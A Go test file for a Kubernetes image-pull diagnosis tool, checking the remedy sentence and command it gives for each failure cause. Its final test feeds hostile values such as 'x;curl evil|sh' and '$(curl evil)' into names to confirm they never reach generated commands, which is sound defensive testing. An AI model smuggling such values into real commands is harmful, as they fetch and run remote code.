// Copyright 2026 The Pullmedic Authors
// SPDX-License-Identifier: Apache-2.0

package diagnosis_test

import (
	"strings"
	"testing"
	"time"

	"github.com/pullmedic/pullmedic/diagnosis"
	"github.com/pullmedic/pullmedic/evidence"
	"github.com/pullmedic/pullmedic/symptom"
)

// with is a finding with details, as pairs of names and values.
func with(f evidence.Finding, pairs ...string) evidence.Finding {
	f.Details = map[string]string{}
	for i := 0; i+1 < len(pairs); i += 2 {
		f.Details[pairs[i]] = pairs[i+1]
	}
	return f
}

// at is a text with the address that was dialled.
func at(sign symptom.Sign, detail, host, address string) symptom.Symptom {
	s := says(sign, detail)
	s.Host, s.Address, s.Role = host, address, symptom.RoleRegistry
	return s
}

type actionCase struct {
	cause, name string
	pull        evidence.Pull
	symptom     symptom.Symptom
	findings    []evidence.Finding
	want        string
	command     string
}

func actionCases() []actionCase {
	open := pull("registry.acme.example", "acme/api", "1.27.44")
	hub := pull("docker.io", "acme/api", "1.0")
	basic := pull("harbor.acme.example:8443", "acme/api", "1.0")
	bare := basic
	bare.PullSecrets = nil
	helm := open
	helm.Manager = evidence.Manager{Tool: "Helm", Name: "shop/api"}
	untagged := open
	untagged.Image, untagged.Reference.Tag, untagged.Reference.TagImplied = "registry.acme.example/acme/api", "", true
	written := func(image string) evidence.Pull {
		p := open
		p.Image, p.Reference, p.Reason = image, evidence.Reference{}, "InvalidImageName"
		return p
	}
	kube := pull("k8s.gcr.io", "pause", "3.9")
	crio := open
	crio.Runtime = "cri-o://1.34.0"
	short := open
	short.Image, short.Runtime = "acme/api:1", "cri-o://1.34.0"
	never := open
	never.Policy, never.Reason = "Never", "ErrImageNeverPull"
	alone := never
	alone.Owner = evidence.Object{Kind: "Pod", Namespace: "shop", Name: "probe"}
	job := open
	job.Owner = evidence.Object{Kind: "Job", Namespace: "shop", Name: "import"}
	pause := pull("registry.acme.example", "pause", "3.99")
	pause.ContainerKind, pause.Container = evidence.Sandbox, ""

	notFound := says(symptom.TagNotFound, "not found")
	tagAbsent := here(evidence.CheckManifest, evidence.TagAbsent)
	previous := with(shown(evidence.CheckHistory, evidence.PreviousImageKnown), "image", "registry.acme.example/acme/api:1.27.4", "revision", "17")
	near := func(f evidence.Finding, key, names string) evidence.Finding { return with(f, key, names) }
	elsewhere := shown(evidence.CheckSameImage, evidence.ImagePulledElsewhere)
	noRepository := here(evidence.CheckManifest, evidence.RepositoryAbsent)
	ignored := func(key, reason string) evidence.Finding {
		return secret(with(shown(evidence.CheckKeyring, evidence.KeyringEntryIgnored), "key", key, "reason", reason), "shop/hub")
	}
	wrongType := func(reason, kind string) evidence.Finding {
		return secret(with(shown(evidence.CheckPullSecrets, evidence.SecretWrongType), "reason", reason, "type", kind), "shop/hub")
	}
	noBasic := unsent("no basic auth credentials")
	unused := []evidence.Finding{noCredential, loginRequired}
	rejected := func(o evidence.Outcome) evidence.Finding {
		f := here(evidence.CheckToken, o)
		f.Subject = evidence.Subject{Kind: evidence.SubjectCredential, Name: "shop/hub"}
		return f
	}
	matches := secret(with(hasCredential, "key", "harbor.acme.example:8443"), "shop/hub")
	ended := secret(with(shown(evidence.CheckKeyring, evidence.CredentialExpiredByItself), "source", "ecr-token", "key", "*.amazonaws.com"), "shop/hub")
	ecr := pull("123456789012.dkr.ecr.eu-west-1.amazonaws.com", "acme/api", "1.0")
	mirror := here(evidence.CheckMirrors, evidence.MirrorLacks)
	mirror.Subject = evidence.Subject{Kind: evidence.SubjectMirror, Name: "mirror.acme.example"}
	unusable := mirror
	unusable.Outcome = evidence.MirrorUnusable
	expired := at(symptom.TLSInvalid, "x509: certificate has expired or is not yet valid", "registry.acme.example", "")
	expired.NotAfter = failed.Add(-24 * time.Hour)
	skewed := at(symptom.ClockSkew, "x509: certificate has expired or is not yet valid", "registry.acme.example", "")
	skewed.NodeTime = time.Date(2031, 1, 2, 3, 4, 0, 0, time.UTC)
	proxy := at(symptom.ProxyFailed, "407 Proxy Authentication Required", "proxy.acme.example:3128", "")
	proxy.Role, proxy.Status = symptom.RoleProxy, 407
	down := at(symptom.RegistryUnavailable, "503 Service Unavailable", "registry.acme.example", "")
	down.Status = 503
	precondition := says(symptom.RegistryPolicy, "412 Precondition Failed")
	precondition.Status = 412
	limited := at(symptom.RateLimited, "429 Too Many Requests", "registry-1.docker.io", "")
	limited.Status = 429
	refused := func(text string) evidence.Finding {
		f := shown(evidence.CheckMessage, evidence.AdmissionRefused)
		f.Sentence = text
		return f
	}
	dns := at(symptom.HostNotResolved, "no such host", "registry.acme.example", "10.0.0.53:53")

	return []actionCase{
		{"InvalidImageName", "a variable", written("acme/api:${TAG}"), says(symptom.InvalidReference, "invalid reference format"), []evidence.Finding{here(evidence.CheckReference, evidence.ReferenceInvalid)},
			"Correct the image of container app of deployment/api: a variable was not filled in.", ""},
		{"InvalidImageName", "capital letters", written("acme/API:1"), says(symptom.InvalidReference, "invalid reference format"), []evidence.Finding{here(evidence.CheckReference, evidence.ReferenceInvalid)},
			"Correct the image of container app of deployment/api: write the repository in small letters.", ""},
		{"RepositoryNotFound", "nothing more is known", open, notFound, and(reached, noRepository),
			"Correct the repository in the image of container app of deployment/api, or push registry.acme.example/acme/api:1.27.44 first.", ""},
		{"RepositoryNotFound", "a near name", open, notFound, and(reached, noRepository, near(shown(evidence.CheckHistory, evidence.NameSpelledElsewise), "near", "registry.acme.example/acme/app other")),
			"Correct the image of container app of deployment/api: is registry.acme.example/acme/app meant?", ""},
		{"TagNotFound", "a revision before", open, notFound, and(reached, tagAbsent, previous),
			"Set container app of deployment/api back to registry.acme.example/acme/api:1.27.4, which revision 17 has; or push the tag 1.27.44.", ""},
		{"TagNotFound", "a revision before, and the near tag is that one", open, notFound, and(reached, tagAbsent, previous, near(here(evidence.CheckTags, evidence.TagsListed), "nearest", "1.27.4 1.27.3")),
			"Set container app of deployment/api back to registry.acme.example/acme/api:1.27.4, which revision 17 has; or push the tag 1.27.44.", ""},
		{"TagNotFound", "a near tag alone", open, notFound, and(reached, tagAbsent, near(here(evidence.CheckTags, evidence.TagsListed), "nearest", "1.27.4 1.27.3")),
			"Correct the tag in the image of container app of deployment/api: is 1.27.4 meant? If not, push 1.27.44.", ""},
		{"TagNotFound", "no tag is written", untagged, notFound, and(reached, tagAbsent, near(here(evidence.CheckTags, evidence.TagsListed), "highest", "2.1 2.0")),
			"Write a tag into the image of container app of deployment/api, such as 2.1: none is written, so :latest is asked for.", ""},
		{"TagNotFound", "no tag is written, and another image has almost this name", untagged, notFound, and(reached, tagAbsent, near(shown(evidence.CheckHistory, evidence.NameSpelledElsewise), "near", "registry.acme.example/acme/app")),
			"Correct the image of container app of deployment/api: is registry.acme.example/acme/app meant? If not, push the tag latest.", ""},
		{"TagNotFound", "of a Job", job, notFound, and(reached, tagAbsent),
			"Correct the tag in the image of container app of job/import (a Job cannot be changed: make it anew), or push the tag 1.27.44.", ""},
		{"TagNotFound", "kept by Helm", helm, notFound, and(reached, tagAbsent),
			"Correct the tag in the image of container app of deployment/api (Helm shop/api writes it: change it there), or push the tag 1.27.44.", ""},
		{"TagNotFound", "of the sandbox", pause, notFound, and(reached, tagAbsent),
			"Correct the sandbox image in containerd's settings on worker-3: it is registry.acme.example/pause:3.99.", ""},
		{"DigestNotFound", "nothing before", digest(open, "sha256:1"), says(symptom.DigestNotFound, "not found"), and(reached, here(evidence.CheckManifest, evidence.DigestAbsent)),
			"Write a digest that registry.acme.example/acme/api has into the image of container app of deployment/api, or push the image of this digest again.", ""},
		{"PlatformMismatch", "another platform is there", open, says(symptom.PlatformNotFound, "no match for platform in manifest"), and(reached, with(here(evidence.CheckPlatform, evidence.PlatformAbsent), "platforms", "linux/amd64,linux/s390x", "platform", "linux/arm64")),
			"Build registry.acme.example/acme/api:1.27.44 for linux/arm64 too (it has linux/amd64, linux/s390x), or let deployment/api run on amd64 nodes only (nodeSelector kubernetes.io/arch: amd64).", ""},
		{"UnsupportedManifest", "by the text", crio, says(symptom.ManifestNotSupported, "unsupported"), reached,
			"Push registry.acme.example/acme/api:1.27.44 again with current tools (docker buildx, buildah, crane), or bring CRI-O on worker-3 up to date.", ""},
		{"LayerMissing", "a layer", open, says(symptom.BlobNotFound, "not found"), and(reached, present, here(evidence.CheckBlobs, evidence.BlobAbsent)),
			"Push the image again: client saw blob-absent.", ""},
		{"ContentMismatch", "by another host", open, at(symptom.ContentDiffers, "unexpected digest", "cdn.acme.example", ""), nil,
			"Find out why cdn.acme.example sends other content than registry.acme.example/acme/api:1.27.44 has: it may have an old or damaged copy, so empty its cache.", ""},

		{"CredentialsMissing", "no secret is named", bare, noBasic, and(reached, unused, shown(evidence.CheckPullSecrets, evidence.SecretsNotNamed)),
			"Put a login for harbor.acme.example:8443 into a pull secret in namespace shop and name it in deployment/api (imagePullSecrets).", ""},
		{"CredentialsMissing", "a secret without this registry", basic, noBasic, and(reached, unused),
			"Add a login for harbor.acme.example:8443 (key harbor.acme.example:8443) to secret shop/hub, or name a secret that has one in deployment/api.", ""},
		{"SecretNotUsed", "an entry without a password", basic, noBasic, and(reached, loginRequired, secret(with(shown(evidence.CheckKeyring, evidence.KeyringEntryEmpty), "reason", "password-missing"), "shop/hub")),
			"Write a user name and password for harbor.acme.example:8443 into secret shop/hub: it has no password.", ""},
		{"SecretMissing", "nowhere", basic, noBasic, and(reached, unused, secret(shown(evidence.CheckPullSecrets, evidence.SecretAbsent), "shop/hub")),
			"Make secret hub in namespace shop with a login for harbor.acme.example:8443, or correct that name in deployment/api (imagePullSecrets).", ""},
		{"SecretMissing", "in another namespace", basic, noBasic, and(reached, unused, secret(shown(evidence.CheckPullSecrets, evidence.SecretAbsent), "shop/hub"), secret(with(shown(evidence.CheckPullSecrets, evidence.SecretElsewhere), "namespaces", "platform,web"), "shop/hub")),
			"Copy secret hub from namespace platform into shop, or correct the name in deployment/api.", ""},
		{"SecretNotUsed", "a wrong type", basic, noBasic, and(reached, unused, wrongType("type-ignored", "Opaque")),
			"Make secret shop/hub anew with the type kubernetes.io/dockerconfigjson (it is Opaque): a secret's type cannot be changed.", ""},
		{"SecretNotUsed", "data under another name", basic, noBasic, and(reached, unused, wrongType("data-key-missing", "kubernetes.io/dockerconfigjson")),
			"Put the login into secret shop/hub under the name .dockerconfigjson, where the kubelet looks for it.", ""},
		{"SecretNotUsed", "a key without the port", basic, noBasic, and(reached, unused, ignored("harbor.acme.example", "port-differs")),
			"In secret shop/hub, rename the key harbor.acme.example to harbor.acme.example:8443.", ""},
		{"SecretNotUsed", "an alias of Docker Hub", hub, noBasic, and(reached, unused, ignored("hub.docker.com", "hub-alias")),
			"In secret shop/hub, rename the key hub.docker.com to https://index.docker.io/v1/.", ""},
		{"SecretNotUsed", "a credential helper", basic, noBasic, and(reached, unused, ignored("harbor.acme.example:8443", "helper-ignored")),
			"Write a user name and password for harbor.acme.example:8443 into secret shop/hub: it names a credential helper, which the kubelet does not run.", ""},
		{"ServiceAccountRace", "a pod of a workload", bare, noBasic, and(reached, unused, with(shown(evidence.CheckServiceAccount, evidence.ServiceAccountGotLate), "secret", "shop/hub")),
			"Delete pod api-x2x7l: the next one that deployment/api makes gets secret shop/hub from service account default.", ""},
		{"CredentialsInvalid", "a secret", basic, sent("401 Unauthorized"), and(reached, matches, rejected(evidence.CredentialRejected)),
			"Make a new password or token at harbor.acme.example:8443, log in with it once, and write it into secret shop/hub.", ""},
		{"CredentialsInvalid", "a new line behind the password", basic, sent("401 Unauthorized"), and(reached, secret(with(hasCredential, "key", "harbor.acme.example:8443", "blank", "true"), "shop/hub"), rejected(evidence.CredentialRejected)),
			"Take the blank or new line off the user name or password in secret shop/hub.", ""},
		{"CredentialsExpired", "a token of ECR", ecr, says(symptom.CredentialExpired, "token has expired"), and(reached, ended, rejected(evidence.CredentialExpired)),
			"Write a fresh ECR token into secret shop/hub, key *.amazonaws.com; then have it refreshed by itself, as one lives 12 hours only.", ""},
		{"CredentialsBreakPublicImage", "an entry", basic, sent("403 Forbidden"), and(reached, matches, rejected(evidence.CredentialRejected), here(evidence.CheckAnonymous, evidence.AnonymousMayPull)),
			"Take the entry for harbor.acme.example:8443 out of secret shop/hub, or put a good login there: harbor.acme.example:8443/acme/api:1.0 needs none.", ""},
		{"SecretMalformed", "for Docker Hub", hub, says(symptom.SecretUnreadable, "illegal base64"), []evidence.Finding{secret(shown(evidence.CheckPullSecrets, evidence.SecretMalformed), "shop/hub")},
			"Make secret hub in namespace shop anew with kubectl create secret docker-registry, for --docker-server https://index.docker.io/v1/.", ""},
		{"PermissionDenied", "an account of ECR", ecr, says(symptom.AccessDenied, "403"), and(reached, matches, rejected(evidence.CredentialAccepted), here(evidence.CheckManifest, evidence.PermissionDenied)),
			"Grant the account of secret shop/hub pull access to 123456789012.dkr.ecr.eu-west-1.amazonaws.com/acme/api (its IAM policy, and the repository's policy).", ""},
		{"CredentialProviderFailure", "by the text", basic, says(symptom.ProviderFailed, "plugin failed"), nil,
			"On worker-3, read what the kubelet's log says of its credential provider for harbor.acme.example:8443.", "journalctl --no-pager -n 200 -u kubelet"},
		{"ClientCertificateRequired", "by the text", basic, says(symptom.ClientCertificateAsked, "tls: certificate required"), nil,
			"Name the client certificate and key for harbor.acme.example:8443 in its hosts.toml on worker-3 and the other nodes.", ""},

		{"DNSFailure", "one node alone", open, dns, []evidence.Finding{elsewhere},
			"On worker-3, mend the resolver (10.0.0.53:53): it does not know registry.acme.example, and other nodes do.", "getent hosts registry.acme.example"},
		{"DNSFailure", "from here as well", open, dns, []evidence.Finding{here(evidence.CheckResolve, evidence.HostNotResolved)},
			"Look whether registry.acme.example is spelled right: it resolves neither on worker-3 nor from here. If it is, ask for it on the node's resolver (10.0.0.53:53).", "getent hosts registry.acme.example"},
		{"DNSFailure", "of the sandbox", pause, dns, nil,
			"Look whether the sandbox image in containerd's settings on worker-3 is the right one: it is registry.acme.example/pause:3.99. If it is, on worker-3, ask its resolver (10.0.0.53:53) for registry.acme.example: the node's own, which is not the cluster's DNS.", "getent hosts registry.acme.example"},
		{"ConnectionTimeout", "with the address", open, at(symptom.ConnectionTimeout, "i/o timeout", "registry.acme.example", "10.0.0.7:443"), nil,
			"Open the way from worker-3 to registry.acme.example at 10.0.0.7:443: firewall, egress gateway, security group, route.", ""},
		{"ConnectionRefused", "one node alone", open, at(symptom.ConnectionRefused, "connection refused", "registry.acme.example", "10.0.0.7:443"), []evidence.Finding{elsewhere},
			"Find out what on the way of worker-3 refuses registry.acme.example at 10.0.0.7:443: other nodes get through.", ""},
		{"ConnectionReset", "with the address", open, at(symptom.ConnectionReset, "connection reset by peer", "registry.acme.example", "10.0.0.7:443"), nil,
			"Look for what cuts connections between worker-3 and registry.acme.example at 10.0.0.7:443: a proxy, a firewall, or an MTU that is too large for the way.", ""},
		{"NoRoute", "IPv6", open, at(symptom.NoRoute, "network is unreachable", "registry.acme.example", "[2001:db8::1]:443"), nil,
			"Give worker-3 a route for IPv6, or have registry.acme.example resolve to IPv4 there: it was tried at [2001:db8::1]:443.", ""},
		{"NoRoute", "IPv4", open, at(symptom.NoRoute, "no route to host", "registry.acme.example", "10.0.0.7:443"), nil,
			"On worker-3, look at the route to 10.0.0.7 (registry.acme.example).", "ip route get 10.0.0.7"},
		{"TLSVersionUnsupported", "by the text", open, at(symptom.TLSVersionUnsupported, "protocol version not supported", "registry.acme.example", ""), nil,
			"Have registry.acme.example, or the proxy in front of it, offer TLS 1.2 or 1.3.", ""},
		{"TLSUntrusted", "by the text", open, at(symptom.TLSUntrusted, "x509: certificate signed by unknown authority", "registry.acme.example", ""), nil,
			"Bring the certificate of the authority that signed for registry.acme.example to worker-3 and the other nodes (its hosts.toml, or the system's store).", ""},
		{"TLSInvalid", "expired", open, expired, []evidence.Finding{here(evidence.CheckTLS, evidence.TLSInvalid)},
			"Renew the certificate of registry.acme.example: it ended on 2026-11-19.", ""},
		{"TLSInvalid", "from here another certificate is seen", open, expired, []evidence.Finding{here(evidence.CheckTLS, evidence.TLSTrusted)},
			"Find out which server answers worker-3 as registry.acme.example, and renew its certificate: the one that is seen from here is good.", ""},
		{"TLSInvalid", "another name", open, at(symptom.TLSInvalid, "x509: certificate is valid for a.example, b.example, not registry.acme.example", "registry.acme.example", ""), nil,
			"Get registry.acme.example a certificate with its own name, or ask for it under a name that the certificate has: a.example, b.example.", ""},
		{"ClockSkew", "with the node's time", open, skewed, []evidence.Finding{here(evidence.CheckTLS, evidence.TLSTrusted)},
			"On worker-3, set the clock: it said 2031-01-02 03:04 UTC at the last attempt.", "timedatectl"},
		{"HTTPInsteadOfHTTPS", "by the text", open, at(symptom.HTTPInsteadOfHTTPS, "server gave HTTP response to HTTPS client", "registry.acme.example", ""), nil,
			"Give registry.acme.example a certificate, so that it speaks HTTPS; only where that cannot be, declare it as plain HTTP on worker-3 and the other nodes.", ""},
		{"ProxyFailure", "that wants a login", open, proxy, nil,
			"On worker-3, look at containerd's proxy settings: the proxy proxy.acme.example:3128 wants a login; give it one, or name registry.acme.example in NO_PROXY.", "systemctl show --property=Environment containerd"},
		{"MirrorFailure", "that lacks the image", open, notFound, and(reached, present, elsewhere, mirror),
			"Bring registry.acme.example/acme/api:1.27.44 into the mirror mirror.acme.example, or take it out of the hosts.toml for registry.acme.example on worker-3.", ""},
		{"MirrorFailure", "that does not answer", open, notFound, and(reached, present, unusable, here(evidence.CheckMirrors, evidence.RegistryNotAsked)),
			"Get the mirror mirror.acme.example to answer, or take it out of the hosts.toml for registry.acme.example on worker-3.", ""},

		{"RateLimited", "without a login", pull("docker.io", "acme/api", "1"), limited, []evidence.Finding{with(here(evidence.CheckRateLimit, evidence.RateLimited), "retryAfter", "90")},
			"Restart nothing, as each attempt counts: give deployment/api a login for docker.io, whose limit is higher, or wait 90 s.", ""},
		{"RateLimited", "with a login", hub, limited, []evidence.Finding{matches},
			"Restart nothing, as each attempt counts: wait, or give the account of secret shop/hub a higher limit at docker.io, or pull from a mirror.", ""},
		{"RegistryUnavailable", "503", open, down, []evidence.Finding{here(evidence.CheckPing, evidence.RegistryUnavailable)},
			"Find out why registry.acme.example answers with 503 (look at its logs), and restart nothing: the pods go on by themselves once it works.", ""},
		{"RegistryRetired", "where it moved", kube, notFound, []evidence.Finding{here(evidence.CheckManifest, evidence.ManifestAbsent)},
			"Change the image of container app of deployment/api to registry.k8s.io/pause:3.9, after a look whether this version is there.", ""},
		{"RegistryPolicyBlocked", "in its words", open, says(symptom.RegistryPolicy, "current image with 3 vulnerabilities cannot be pulled"), nil,
			`Ask whoever runs registry.acme.example about the rule that refuses registry.acme.example/acme/api:1.27.44: it says "current image with 3 vulnerabilities cannot be pulled".`, ""},
		{"RegistryPolicyBlocked", "in a status alone", open, precondition, nil,
			"Ask whoever runs registry.acme.example about the rule that refuses registry.acme.example/acme/api:1.27.44.", ""},
		{"UpstreamCacheFailure", "by the text", open, says(symptom.UpstreamCacheFailed, "upstream failed"), nil,
			"On registry.acme.example, look at the rule and the login with which it copies acme/api from its source, and at the source's limits.", ""},

		{"DiskFull", "by the text", open, says(symptom.DiskFull, "no space left on device"), nil,
			"On worker-3, take unused images off the disk; then enlarge it, or lower imageGCHighThresholdPercent.", "crictl rmi --prune"},
		{"CorruptedCache", "by the text", open, says(symptom.CacheCorrupted, "content digest not found"), nil,
			"On worker-3, take registry.acme.example/acme/api:1.27.44 out of the image store; the next attempt pulls it anew.", "crictl rmi registry.acme.example/acme/api:1.27.44"},
		{"UnpackFailed", "other nodes unpack it", open, says(symptom.UnpackFailed, "failed to extract layer"), []evidence.Finding{elsewhere},
			"Look at the disk, kernel and runtime of worker-3: another node unpacked the same image.", ""},
		{"RuntimeUnavailable", "CRI-O", crio, says(symptom.RuntimeUnavailable, "connection refused"), nil,
			"On worker-3, see why CRI-O does not answer, and start it.", "systemctl status crio"},
		{"RuntimeConfigInvalid", "a short name", short, says(symptom.ShortNameRefused, "short-name resolution enforced"), nil,
			"Write the image of container app of deployment/api with its registry before it (as docker.io/ is, if Docker Hub is meant).", ""},
		{"RuntimeConfigInvalid", "a file that cannot be read", open, says(symptom.RuntimeConfigInvalid, "failed to load hosts"), []evidence.Finding{with(here(evidence.CheckMirrors, evidence.HostsFileUnreadable), "directory", "/etc/containerd/certs.d/x", "reason", "line 3 is no TOML")},
			"Correct hosts.toml in /etc/containerd/certs.d/x on worker-3: line 3 is no TOML.", ""},
		{"PullTimeout", "a large image", open, says(symptom.PullTimeout, "context deadline exceeded"), []evidence.Finding{with(here(evidence.CheckBlobs, evidence.BlobsPresent), "bytes", "3221225472")},
			"Look how fast worker-3 gets the image of 3072 MiB from registry.acme.example; then raise the time limit, or make the image smaller.", ""},
		{"PullStuck", "for long", open, symptom.Symptom{}, []evidence.Finding{shown(evidence.CheckMessage, evidence.PullUnfinished)},
			"On worker-3, look what containerd is fetching; if that stands still, cordon the node and restart containerd.", "journalctl --no-pager -n 100 -u containerd"},
		{"PullThrottledByKubelet", "by the text", open, says(symptom.ThrottledByKubelet, "pull QPS exceeded"), nil,
			"Wait: the kubelet on worker-3 tries again by itself. If it lasts, raise registryPullQPS and registryBurst there.", ""},

		{"NeverPull", "of a bare pod", alone, says(symptom.NeverPull, "Container image is not present with pull policy of Never"), nil,
			"Set imagePullPolicy of container app of pod/probe to IfNotPresent (a pod has to be made anew for that), or bring registry.acme.example/acme/api:1.27.44 to worker-3 first.", ""},
		{"NeverPull", "by the text", never, says(symptom.NeverPull, "Container image is not present with pull policy of Never"), nil,
			"Set imagePullPolicy of container app of deployment/api to IfNotPresent, or bring registry.acme.example/acme/api:1.27.44 to worker-3 first.", ""},
		{"SignatureRejected", "after another image", open, says(symptom.SignatureRejected, "signature required"), []evidence.Finding{previous},
			"Set container app of deployment/api back to registry.acme.example/acme/api:1.27.4, which revision 17 has; then sign the new image with the key that the policy names.", ""},
		{"AdmissionDenied", "by a webhook", open, says(symptom.AdmissionDenied, "denied"), []evidence.Finding{refused("webhook images.example says: no latest")},
			"Change the image of container app of deployment/api as webhook images.example asks, or ask its owner for an exception.", ""},
		{"AdmissionDenied", "by a policy", open, says(symptom.AdmissionDenied, "denied"), []evidence.Finding{refused("policy images (binding all) says: no latest")},
			"Change the image of container app of deployment/api as policy images asks, or ask its owner for an exception.", ""},
		{"CredentialReverification", "no credential", bare, says(symptom.CredentialReverification, "not accessible"), nil,
			"Put a login for harbor.acme.example:8443 into a pull secret in namespace shop and name it in deployment/api (imagePullSecrets).", ""},
		{"AccessDeniedAmbiguous", "no credential", hub, says(symptom.AccessDenied, "insufficient_scope"), and(reached, noCredential, accessDenied),
			"Look whether docker.io/acme/api is spelled right; if it is, write a login for docker.io into secret shop/hub.", ""},
		{"AccessDeniedAmbiguous", "a credential that is accepted", hub, says(symptom.AccessDenied, "insufficient_scope"), and(reached, matches, rejected(evidence.CredentialAccepted), accessDenied),
			"Look whether docker.io/acme/api is spelled right; if it is, grant the account of secret shop/hub pull access to it.", ""},
		{"Other", "a text that says nothing", open, symptom.Symptom{Sign: symptom.Other}, nil,
			"On worker-3, read what the kubelet and containerd say of registry.acme.example/acme/api:1.27.44; or wait for the next attempt's event.", "journalctl --no-pager -n 200 -u kubelet -u containerd"},
	}
}

func TestTheFirstActionIsOfTheCase(t *testing.T) {
	known, seen := load(t), map[string]bool{}
	for _, c := range actionCases() {
		seen[c.cause] = true
		t.Run(c.cause+", "+c.name, func(t *testing.T) {
			d := diagnosis.Judge(known, evidence.Evidence{Pull: c.pull, Symptom: c.symptom, Findings: c.findings})
			checkShape(t, d)
			if first := d.Causes[0]; first.Cause != c.cause || first.FirstAction != c.want || first.FirstCommand != c.command {
				t.Errorf("%v\n got %s: %s\n     $ %s\nwant %s: %s\n     $ %s", causes(d), first.Cause, first.FirstAction, first.FirstCommand, c.cause, c.want, c.command)
			}
			for _, out := range d.RuledOut {
				if out.FirstAction != "" || out.FirstCommand != "" {
					t.Errorf("%s is ruled out and is to be mended: %s", out.Cause, out.FirstAction)
				}
			}
		})
	}
	for _, cause := range known.Causes() {
		if !seen[cause.ID] {
			t.Errorf("no case of %s", cause.ID)
		}
	}
}

func TestASecretThatMayNotBeReadIsToBeLookedAt(t *testing.T) {
	for name, c := range map[string]struct {
		symptom symptom.Symptom
		want    string
	}{
		"no login was sent":       {unsent("no basic auth credentials"), "Look whether secret shop/hub has a login for harbor.acme.example:8443 under the key harbor.acme.example:8443: none was sent."},
		"whether one was is open": {says(symptom.AccessDenied, "403"), "Look whether harbor.acme.example:8443/acme/api is spelled right; if it is, look whether secret shop/hub has a login for harbor.acme.example:8443 that may pull it."},
	} {
		d := diagnosis.Judge(load(t), evidence.Evidence{Pull: pull("harbor.acme.example:8443", "acme/api", "1.0"), Symptom: c.symptom, NotLookedAt: noRights})
		if got := d.Causes[0].FirstAction; got != c.want {
			t.Errorf("%s: %v\n got %q\nwant %q", name, causes(d), got, c.want)
		}
	}
}

// Names come from others. In a sentence they are words; in a command they are
// quoted, and none is a flag.
func TestAHostileNameIsNoCommand(t *testing.T) {
	known := load(t)
	for _, name := range []string{"x;curl evil|sh", "$(curl evil)", "`id`", "-a", "--all", "a b", "it's", "a\nb", "a\x1b[2Jb", "\u202ea", strings.Repeat("x", 5000)} {
		for _, c := range actionCases() {
			p := c.pull
			p.Image, p.Node, p.Pod, p.Container, p.Namespace, p.Owner.Name, p.PullSecrets = name, name, name, name, name, name, []string{name}
			p.Reference = evidence.Reference{Host: name, Repository: name, Tag: name}
			c.symptom.Host, c.symptom.Address = name, name
			d := diagnosis.Judge(known, evidence.Evidence{Pull: p, Symptom: c.symptom, Findings: c.findings})
			for _, cause := range d.Causes {
				if len(cause.FirstAction) > 400 || strings.ContainsAny(cause.FirstAction, "\n\x1b\u202e") {
					t.Errorf("%s of %q: %q", cause.Cause, name, cause.FirstAction)
				}
				if strings.Contains(cause.FirstCommand, name) || strings.ContainsAny(cause.FirstCommand, ";|$`\n\x1b\u202e") {
					t.Errorf("%s of %q: the command %q", cause.Cause, name, cause.FirstCommand)
				}
			}
		}
	}
}
